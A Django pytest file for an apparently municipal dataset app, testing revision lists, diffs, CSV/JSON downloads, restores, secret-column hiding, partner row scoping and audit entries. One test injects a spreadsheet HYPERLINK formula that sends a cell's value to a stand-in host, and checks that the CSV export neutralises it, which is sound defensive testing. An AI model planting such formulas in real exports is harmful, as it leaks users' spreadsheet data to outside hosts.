"""History pages through the browser's eyes (Django client): revisions, diff, downloads, record history, restores."""

from __future__ import annotations

import json

import pytest

from kaidan.access.services import SYSTEM
from kaidan.accounts.models import Organization
from kaidan.audit.models import AuditEntry
from kaidan.catalog.models import Dataset
from kaidan.sharing.services import grant_access

from .conftest import V1, delete_rows, set_cell

pytestmark = pytest.mark.django_db

SECRET_V1 = "番号,名称,地区,担当者\n1,池尻小学校,池尻,山田花子\n2,太子堂中学校,太子堂,佐藤一郎\n3,三宿会館,三宿,鈴木次郎\n"


@pytest.fixture(autouse=True)
def english(client):
    client.cookies["django_language"] = "en"


@pytest.fixture
def shelters(do_import, write_csv):
    ds = do_import(write_csv("v1.csv", V1), key="番号", classification="public").dataset
    set_cell(ds, 1, "定員", 320)
    delete_rows(ds, 2)
    return Dataset.objects.get(pk=ds.pk)


@pytest.fixture
def people(do_import, write_csv):
    """A dataset with a 秘 column (担当者) and a history that changes it."""
    ds = do_import(
        write_csv("p.csv", SECRET_V1),
        dataset="people",
        key="番号",
        classification="internal",
        secret=("担当者",),
    ).dataset
    set_cell(ds, 1, "担当者", "山田太郎")
    set_cell(ds, 3, "担当者", "高橋三郎")
    set_cell(ds, 3, "地区", "池尻")
    return Dataset.objects.get(pk=ds.pk)


def login(client, make_user, owner, role="manager", username="fukushi"):
    user = make_user(username, owner, role=role)
    client.force_login(user)
    return user


def test_the_revision_list_shows_every_revision_with_its_links(client, shelters, make_user, owner):
    login(client, make_user, owner)
    page = client.get("/datasets/shelters/revisions/").content.decode()
    for n in (1, 2, 3):
        assert f"?from={n - 1}&amp;to={n}" in page
        assert f"/datasets/shelters/?as_of={n}" in page
        assert f"/datasets/shelters/export?revision={n}&amp;format=csv" in page
    assert "v1.csv" in page and "Import" in page and "Edit" in page
    assert "/datasets/shelters/restore?revision=1" in page  # a manager may restore


def test_the_dataset_page_links_to_the_history(client, shelters, make_user, owner):
    login(client, make_user, owner)
    assert 'href="/datasets/shelters/revisions/"' in client.get("/datasets/shelters/").content.decode()


def test_view_as_of_a_time_redirects_to_the_grid_as_of_the_last_revision_by_then(
    client, shelters, make_user, owner
):
    login(client, make_user, owner)
    r2 = shelters.revisions.get(number=2)
    from django.utils import timezone

    local = timezone.localtime(r2.created_at)
    when = (local.replace(microsecond=0) + __import__("datetime").timedelta(seconds=1)).strftime(
        "%Y-%m-%dT%H:%M:%S"
    )
    response = client.get("/datasets/shelters/revisions/as-of", {"when": when})
    assert response.status_code == 302
    assert response["Location"].endswith("?as_of=2") or response["Location"].endswith("?as_of=3")
    response = client.get("/datasets/shelters/revisions/as-of", {"when": "1999-01-01T00:00"}, follow=True)
    assert "no revision yet" in response.content.decode()
    response = client.get("/datasets/shelters/revisions/as-of", {"when": "yesterday"}, follow=True)
    assert "could not be read" in response.content.decode()


def test_the_diff_page_summarises_then_lists_cells_with_the_key(client, shelters, make_user, owner):
    login(client, make_user, owner)
    page = client.get("/datasets/shelters/diff", {"from": 1, "to": 3}).content.decode()
    assert "1 row removed" in page and "1 row changed" in page and "0 rows added" in page
    assert "300" in page and "320" in page and "key 1" in page
    removed = client.get("/datasets/shelters/diff", {"from": 1, "to": 3, "kind": "removed"}).content.decode()
    assert "太子堂中学校" in removed


def test_a_bad_revision_number_is_a_clear_400(client, shelters, make_user, owner):
    login(client, make_user, owner)
    response = client.get("/datasets/shelters/diff", {"from": 1, "to": 99})
    assert response.status_code == 400 and "no revision 99" in response.content.decode()


def test_the_diff_downloads_as_csv_with_bom_and_as_json(client, shelters, make_user, owner):
    login(client, make_user, owner)
    response = client.get("/datasets/shelters/diff.csv", {"from": 1, "to": 3})
    data = b"".join(response.streaming_content)
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == "change,row_id,key,column,old,new"
    assert "changed,1,1,定員,300,320" in lines
    assert "removed,2,2,名称,太子堂中学校," in lines
    response = client.get("/datasets/shelters/diff.json", {"from": 3, "to": 1})
    doc = json.loads(b"".join(response.streaming_content))
    assert (doc["from"], doc["to"]) == (3, 1)
    kinds = {row["change"]: row for row in doc["rows"]}
    assert kinds["changed"]["cells"] == [{"column": "定員", "label": "定員", "old": 320, "new": 300}]
    assert kinds["added"]["row_id"] == 2
    assert AuditEntry.objects.filter(action="history.diff.download").count() == 2


def test_the_diff_csv_quotes_text_that_a_spreadsheet_would_run_as_a_formula(
    client, shelters, make_user, owner
):
    set_cell(shelters, 1, "名称", '=HYPERLINK("http://x"&B2,"詳細")')
    set_cell(shelters, 3, "定員", -5)
    login(client, make_user, owner)
    response = client.get("/datasets/shelters/diff.csv", {"from": 3, "to": 5})
    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    assert 'changed,1,1,名称,池尻小学校,"\'=HYPERLINK(""http://x""&B2,""詳細"")"' in lines
    assert "changed,3,3,定員,50,-5" in lines  # a number is never quoted


def test_the_record_history_tells_who_changed_what_when(client, shelters, make_user, owner):
    login(client, make_user, owner)
    page = client.get("/datasets/shelters/rows/1/history").content.decode()
    assert "Created" in page and "revision 1" in page and "revision 2" in page
    assert "300" in page and "320" in page
    deleted = client.get("/datasets/shelters/rows/2/history").content.decode()
    assert "Deleted" in deleted and "revision 3" in deleted
    assert client.get("/datasets/shelters/rows/999/history").status_code == 404


def test_restoring_a_record_from_its_confirm_page(client, shelters, make_user, owner):
    login(client, make_user, owner, role="editor")
    confirm = client.get("/datasets/shelters/rows/1/restore", {"revision": 1}).content.decode()
    assert "320" in confirm and "300" in confirm
    response = client.post("/datasets/shelters/rows/1/restore", {"revision": 1})
    assert response.status_code == 302
    ds = Dataset.objects.get(pk=shelters.pk)
    assert ds.current_revision == 4 and ds.revisions.get(number=4).source == "restore"
    # a deleted record comes back under a new id, linked from both histories
    response = client.post("/datasets/shelters/rows/2/restore", {"revision": 2})
    new_id = int(response["Location"].split("/rows/")[1].split("/")[0])
    assert new_id != 2
    assert (
        f"/datasets/shelters/rows/{new_id}/history"
        in client.get("/datasets/shelters/rows/2/history").content.decode()
    )
    assert "Restored from the deleted record 2" in client.get(response["Location"]).content.decode()


def test_restoring_the_dataset_needs_a_manager_and_a_confirmation(client, shelters, make_user, owner):
    login(client, make_user, owner, role="editor", username="ed")
    assert client.get("/datasets/shelters/restore", {"revision": 1}).status_code == 403
    login(client, make_user, owner)  # another user in the same browser
    confirm = client.get("/datasets/shelters/restore", {"revision": 1}).content.decode()
    assert "1 deleted row comes back" in confirm and "1 row gets its old values back" in confirm
    response = client.post("/datasets/shelters/restore", {"revision": 1, "expected": 3})
    assert response.status_code == 302
    ds = Dataset.objects.get(pk=shelters.pk)
    assert ds.current_revision == 4 and "restored to revision 1" in ds.revisions.get(number=4).message
    # a stale confirm page is refused
    response = client.post("/datasets/shelters/restore", {"revision": 1, "expected": 3}, follow=True)
    assert "after you confirmed" in response.content.decode()


# ------------------------------------------------------------------------------------------ access


def test_a_viewer_without_clearance_never_sees_values_of_a_secret_column(client, people, make_user, make_org):
    other = make_org("bosai")  # ward staff: internal clearance, 担当者 (秘) is above it
    login(client, make_user, other, role="viewer", username="bosai.viewer")
    secrets = ["山田花子", "山田太郎", "鈴木次郎", "高橋三郎", "佐藤一郎"]
    screens = [
        client.get("/datasets/people/diff", {"from": 1, "to": 4}).content.decode(),
        client.get("/datasets/people/diff", {"from": 0, "to": 4, "kind": "added"}).content.decode(),
        b"".join(client.get("/datasets/people/diff.csv", {"from": 1, "to": 4}).streaming_content).decode(),
        b"".join(client.get("/datasets/people/diff.json", {"from": 4, "to": 0}).streaming_content).decode(),
        client.get("/datasets/people/rows/1/history").content.decode(),
        client.get("/datasets/people/rows/3/history").content.decode(),
    ]
    for text in screens:
        assert not any(s in text for s in secrets), text
        assert "担当者" not in text
    # the visible change of row 3 still shows, and the secret-only change of row 1 is not a change
    assert "三宿" in screens[0] and "1 row changed" in screens[0]
    assert "Only columns you cannot see were changed." in screens[4]
    assert not AuditEntry.objects.filter(action__startswith="store.read_restricted").exists()


def test_reads_of_secret_columns_in_history_are_audited(client, people, make_user, owner):
    login(client, make_user, owner, role="editor", username="fukushi.editor")
    page = client.get("/datasets/people/diff", {"from": 1, "to": 4}).content.decode()
    assert "山田花子" in page and "山田太郎" in page
    client.get("/datasets/people/rows/1/history")
    actions = list(AuditEntry.objects.values_list("action", flat=True))
    assert "store.read_restricted.diff" in actions and "store.read_restricted.history" in actions


def test_downloads_of_differences_with_secret_values_are_audited(client, people, make_user, owner):
    login(client, make_user, owner, role="editor", username="fukushi.editor")
    csv_text = b"".join(client.get("/datasets/people/diff.csv", {"from": 1, "to": 4}).streaming_content)
    json_text = b"".join(client.get("/datasets/people/diff.json", {"from": 1, "to": 4}).streaming_content)
    assert "山田太郎".encode() in csv_text and "山田太郎".encode() in json_text
    assert AuditEntry.objects.filter(action="store.read_restricted.diff_download").count() == 2


def test_the_restore_preview_of_a_deleted_record_with_secret_values_is_audited(
    client, people, make_user, owner
):
    delete_rows(people, 2)
    login(client, make_user, owner, role="editor", username="fukushi.editor")
    page = client.get("/datasets/people/rows/2/restore", {"revision": 1}).content.decode()
    assert "佐藤一郎" in page  # the 秘 担当者 of the deleted record
    entry = AuditEntry.objects.get(action="store.read_restricted.restore")
    assert (entry.object_label, entry.detail) == (str(people), {"row": 2, "revision": 1})


def test_the_restore_preview_of_a_changed_record_is_audited_once_and_the_restore_too(
    client, people, make_user, owner
):
    login(client, make_user, owner, role="editor", username="fukushi.editor")
    page = client.get("/datasets/people/rows/1/restore", {"revision": 1}).content.decode()
    assert "山田太郎" in page and "山田花子" in page  # now and at revision 1
    assert AuditEntry.objects.filter(action="store.read_restricted.restore").count() == 1
    client.post("/datasets/people/rows/1/restore", {"revision": 1})
    actions = list(AuditEntry.objects.values_list("action", flat=True))
    assert actions.count("store.read_restricted.restore") == 2 and "store.row.restore" in actions


def test_a_restore_preview_without_secret_values_is_not_logged_as_a_restricted_read(
    client, shelters, make_user, owner
):
    login(client, make_user, owner, role="editor", username="fukushi.editor")
    assert "太子堂中学校" in client.get("/datasets/shelters/rows/2/restore", {"revision": 1}).content.decode()
    assert not AuditEntry.objects.filter(action__startswith="store.read_restricted").exists()


def test_a_scoped_partner_sees_no_rows_outside_the_scope(client, people, make_user):
    from kaidan.accounts.services import create_organization

    partner = create_organization(
        actor=None, code="houkatsu", name="池尻包括", kind=Organization.Kind.PARTNER
    )
    user = make_user("partner", partner, role="viewer")
    target_type, target_id = people.access_target
    grant_access(
        people,
        actor=SYSTEM,
        organization=partner,
        clearance="limited",
        row_filter=[{"field": "地区", "op": "eq", "value": "池尻"}],
    )
    client.force_login(user)
    page = client.get("/datasets/people/diff", {"from": 0, "to": 4, "kind": "added"}).content.decode()
    assert "池尻小学校" in page and "三宿会館" in page  # row 3 is in 池尻 at revision 4
    assert "太子堂中学校" not in page
    # from 1 to 4 row 3 moved into the scope: for the partner it was added, not changed
    moved = client.get("/datasets/people/diff", {"from": 1, "to": 4, "kind": "added"}).content.decode()
    assert "1 row added" in moved and "三宿会館" in moved and "0 rows changed" in moved
    csv_text = b"".join(
        client.get("/datasets/people/diff.csv", {"from": 0, "to": 4}).streaming_content
    ).decode()
    assert "太子堂" not in csv_text
    assert client.get("/datasets/people/rows/2/history").status_code == 404
    assert client.get("/datasets/people/rows/1/history").status_code == 200
